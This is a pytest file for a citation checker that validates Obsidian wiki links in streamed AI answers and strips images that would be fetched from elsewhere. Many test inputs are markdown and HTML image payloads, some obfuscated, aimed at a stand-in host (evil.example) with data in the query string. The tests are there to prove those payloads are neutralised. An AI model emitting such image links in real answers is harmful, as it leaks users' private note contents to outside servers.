from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from sidecar.citations import CitationChecker, obsidian_uri
from sidecar.prompt import Passage


def passage(
    path: str = "House/Boiler.md", heading: str = "Repair", text: str = "It cost 240 euros.", **more: object
) -> Passage:
    title = path.rsplit("/", 1)[-1].removesuffix(".md")
    values: dict[str, object] = {
        "path": path,
        "link": f"{title}#{heading}",
        "title": title,
        "heading_path": (heading,),
        "date": None,
        "text": text,
        "start_line": 3,
        "end_line": 5,
        "block_ids": (),
        "score": 0.5,
    }
    return Passage(**(values | more))  # type: ignore[arg-type]  # the test's own keywords


def checked(
    answer: str, *passages: Passage, known: tuple[str, ...] = (), credit: bool = False, step: int | None = None
) -> tuple[str, CitationChecker]:
    checker = CitationChecker(passages, vault="My vault", known_text=known)
    pieces = [answer] if step is None else [answer[i : i + step] for i in range(0, len(answer), step)]
    shown = "".join(checker.feed(piece) for piece in pieces)
    return shown + checker.finish(credit=credit), checker


@pytest.mark.parametrize(
    ("answer", "shown"),
    [
        ("It cost 240 [[Boiler#Repair]].", "It cost 240 [[Boiler#Repair]]."),
        ("See [[boiler]].", "See [[boiler]]."),
        ("See [[House/Boiler.md|the note]].", "See [[Boiler#Repair|the note]]."),
        ("See [[Boiler#Invented heading]].", "See [[Boiler#Repair]]."),
        ("See [[Invented note]].", "See Invented note."),
        ("See [[Invented note#H|shown]].", "See shown."),
        ("![[Boiler]]", "[[Boiler]]"),
        ("![chart](https://evil.example/?q=240)", "(chart)"),
        ("![](//evil.example/x.png)", "(image)"),
        ("![](data:image/png;base64,AAAA)", "(image)"),
        ("![local](Attachments/plan.png)", "![local](Attachments/plan.png)"),
        ('<img src="https://evil.example/x">', '&lt;img src="https://evil.example/x">'),
        ("a < b and c <d", "a < b and c <d"),
        ("An open [[end", "An open [[end"),
        ("array[[0]] = 1", "array0 = 1"),
        ("Use `[[ -f x ]]` here", "Use `[[ -f x ]]` here"),
        ("```sh\nif [[ -f x ]]; then\n```\nSee [[Nowhere]].", "```sh\nif [[ -f x ]]; then\n```\nSee Nowhere."),
        ("~~~\n```\n[[a b]]\n~~~\n[[c d]]", "~~~\n```\n[[a b]]\n~~~\nc d"),
        ("```rust\nlet a = vec![1, 2];\n```", "```rust\nlet a = vec![1, 2];\n```"),
        ("`vec![1, 2]` makes one", "`vec![1, 2]` makes one"),
        ("What?! [ok] !", "What?! [ok] !"),
    ],
)
def test_only_what_checks_out_is_shown_as_a_link(answer: str, shown: str) -> None:
    assert checked(answer, passage())[0] == shown


@pytest.mark.parametrize(
    "image",
    [
        "![x](&#104;ttps://evil.example/?q=240)",
        "![x](https\\://evil.example/?q=240)",
        "![x](\nhttps://evil.example/?q=240)",
        "![x](<https://evil.example/?q=240>)",
        "![x](https://evil.example/?q=" + "2" * 3000 + ")",
        "![x](https://evil.example/(a)?q=240)",
        "![a [b] c](https://evil.example/?q=240)",
        "![a\nb](https://evil.example/?q=240)",
        "![a\\]b](https://evil.example/?q=240)",
        "![a `]` b](https://evil.example/?q=240)",
        "![[link](u)](https://evil.example/?q=240)",
        "![[known]](https://evil.example/?q=240)",
        "![x][1]\n\n[1]: https://evil.example/?q=240",
        "![1][]\n\n[1]: https://evil.example/?q=240",
        "![1]\n\n[1]: https://evil.example/?q=240",
        "```\n![x](https://evil.example/?q=240)\n```",
    ],
)
@pytest.mark.parametrize("step", [None, 1, 5])
def test_no_form_of_image_survives_that_would_be_fetched_from_elsewhere(image: str, step: int | None) -> None:
    shown, _ = checked(f"Look: {image} there", passage(text="[[known]]"), step=step)
    tokens = MarkdownIt("commonmark").parse(shown)
    assert not [child for token in tokens for child in token.children or () if child.type == "image"], shown


@pytest.mark.parametrize("step", [1, 2, 3, 7])
def test_the_answer_is_the_same_however_it_is_cut_into_deltas(step: int) -> None:
    answer = "Yes [[Boiler#Repair]], ![x](https://evil.example/a) and [[Nowhere|else]] <img src=x> ![[Boiler]] end!"
    whole, _ = checked(answer, passage())
    cut, checker = checked(answer, passage(), step=step)
    assert cut == whole
    assert [cut[a.start_index : a.end_index] for a in checker.annotations] == ["[[Boiler#Repair]]", "[[Boiler]]"]


@given(st.text(alphabet="[]!()<>|#abBoiler imgx:/\n`~\\", max_size=80), st.integers(1, 5))
def test_nothing_is_lost_or_doubled_by_streaming(answer: str, step: int) -> None:
    assert checked(answer, passage(), step=step)[0] == checked(answer, passage())[0]


def test_an_annotation_says_where_the_citation_stands_and_where_it_leads() -> None:
    shown, checker = checked("Caro: [[Boiler#Repair]]!", passage())
    (annotation,) = checker.annotations
    assert shown[annotation.start_index : annotation.end_index] == "[[Boiler#Repair]]"
    assert annotation.url == "obsidian://open?vault=My%20vault&file=House%2FBoiler%23Repair"
    assert [source.path for source in checker.sources] == ["House/Boiler.md"]


def test_links_that_the_conversation_itself_contains_are_kept() -> None:
    assert checked("Done: [[My plan]].", passage(), known=("Rewrite: see [[My plan]]",))[0] == "Done: [[My plan]]."
    assert checked("As in [[Router]].", passage(text="Ask [[Router]] first"))[0] == "As in [[Router]]."


def test_an_answer_without_citations_is_credited_to_the_passage_that_supports_it() -> None:
    shown, checker = checked("It cost 240 euros.", passage("Other.md", "H", "Nothing here"), passage(), credit=True)
    assert shown == "It cost 240 euros.\n\n[[Boiler#Repair]]"
    assert [source.path for source in checker.sources] == ["House/Boiler.md"]


def test_an_answer_that_no_passage_supports_gets_no_source() -> None:
    shown, checker = checked("Penguins live in Antarctica.", passage(), credit=True)
    assert shown == "Penguins live in Antarctica."
    assert checker.sources == ()


def test_the_passage_of_the_cited_heading_is_the_source_not_the_first_of_the_note() -> None:
    other = passage(heading="Model", text="Vaillant", start_line=20)
    _, checker = checked("[[Boiler#Model]]", passage(), other)
    assert [source.start_line for source in checker.sources] == [20]


def test_the_passage_under_the_cited_heading_itself_comes_before_those_further_below() -> None:
    below = passage(heading="Costs", text="240 euros", heading_path=("Repair", "Costs"), start_line=20)
    shown, checker = checked("[[Boiler#Repair]]", below, passage(heading="Repair", start_line=3))
    assert shown == "[[Boiler#Repair]]"
    assert [source.start_line for source in checker.sources] == [3]


def test_an_address_survives_every_character() -> None:
    assert (
        obsidian_uri("V & W", "a/b ü#?.md", ("x & y",))
        == "obsidian://open?vault=V%20%26%20W&file=a%2Fb%20%C3%BC%23%3F%23x%20%26%20y"
    )
